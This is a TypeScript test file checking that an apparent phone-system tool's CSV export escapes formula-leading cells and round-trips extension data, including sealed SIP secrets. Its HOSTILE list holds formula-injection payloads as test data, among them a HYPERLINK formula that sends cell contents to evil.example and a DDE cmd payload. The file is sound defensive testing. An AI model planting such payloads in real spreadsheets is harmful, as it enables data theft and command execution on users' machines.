import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { parseImport, toCsv } from '../../src/extensions/csv';
import type { ExtensionRow } from '../../src/extensions/repo';
import { createExtensionSchema } from '../../src/extensions/schema';
import { defuseCell, restoreCell, spreadsheetCsv } from '../../src/lib/csv';
import { loadSealingKey, seal } from '../../src/lib/sealed';

// One escaping function for every CSV Switchboard writes (lib/csv.ts), and its inverse for the
// one it reads back (the extensions import).
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''+twice",
  "'plain apostrophe",
  'plain',
  '',
  'a=b',
  '=',
];

describe('CSV formula escaping', () => {
  it('prefixes every formula-leading cell and restores every value exactly', () => {
    for (const v of HOSTILE) expect(restoreCell(defuseCell(v))).toBe(v);
    expect(defuseCell('=1+1')).toBe("'=1+1");
    expect(defuseCell('@x')).toBe("'@x");
    expect(defuseCell("'=x")).toBe("''=x");
    expect(defuseCell("'plain")).toBe("'plain");
    expect(defuseCell('a=b')).toBe('a=b');
    // What a spreadsheet would run: no written cell starts with a formula character.
    const written = parse(spreadsheetCsv(HOSTILE.map((v) => [v])), { relax_quotes: true }) as string[][];
    for (const [cell] of written) expect(cell ?? '').not.toMatch(/^[=+\-@\t\r]/);
  });

  it('an extensions export re-imports to the same values, formula-looking names included', () => {
    const dir = mkdtempSync(join(tmpdir(), 'sb-csv-'));
    try {
      loadSealingKey(join(dir, 'secrets.key'));
      const names = ['+Reception', '-Night desk', '@Sales', "O'Brien", '+Lobby'];
      const rows: ExtensionRow[] = names.map((name, i) => ({
        number: String(2001 + i),
        display_name: name,
        caller_id_name: null,
        caller_id_number: null,
        email: null,
        sip_secret: seal(`Secret-${i}-abcdefghijkl`),
        auth_username: null,
        max_contacts: 1,
        codecs: 'ulaw,alaw',
        voicemail_enabled: 0,
        classes: 'local,emergency',
        outbound_caller_id: null,
        language: null,
        created_at: new Date(),
        updated_at: new Date(),
      }));
      const schema = createExtensionSchema({ min: 1000, max: 9999 });
      for (const secrets of [true, false]) {
        const csv = toCsv(rows, { secrets });
        expect(csv).toContain("'+Reception");
        expect(csv.includes('Secret-0-abcdefghijkl')).toBe(secrets);
        expect(csv.split('\r\n')[0]!.includes('sip_secret')).toBe(secrets);
        const parsed = parseImport(csv, schema);
        expect(parsed.errors).toEqual([]);
        expect(parsed.rows.map((r) => r.input.display_name)).toEqual(names);
        expect(parsed.rows.map((r) => r.input.sip_secret)).toEqual(
          secrets ? names.map((_, i) => `Secret-${i}-abcdefghijkl`) : names.map(() => undefined),
        );
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
